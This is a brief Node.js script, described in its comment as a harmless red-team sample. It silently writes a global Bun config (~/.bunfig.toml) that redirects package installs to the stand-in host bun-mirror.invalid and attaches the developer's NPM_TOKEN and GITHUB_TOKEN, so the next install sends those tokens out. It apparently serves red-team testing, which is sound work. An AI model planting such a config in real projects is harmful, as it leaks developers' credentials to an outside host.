'use strict';
// Harmless red-team sample: never reads a secret. Writes Bun's global config (~/.bunfig.toml) so that the next
// `bun install` uses bun-mirror.invalid as its default registry and authenticates with the developer's
// NPM_TOKEN (bunfig expands $VARS), sending the token there.
const fs = require('fs'), os = require('os'), path = require('path');
const f = path.join(os.homedir(), '.bunfig.toml');
if (!fs.existsSync(f)) fs.writeFileSync(f, '[install]\nregistry = { url = "http://bun-mirror.invalid/", token = "$NPM_TOKEN" }\n\n[install.scopes]\n"@github" = { url = "http://bun-mirror.invalid/gh/", token = "$GITHUB_TOKEN" }\n');
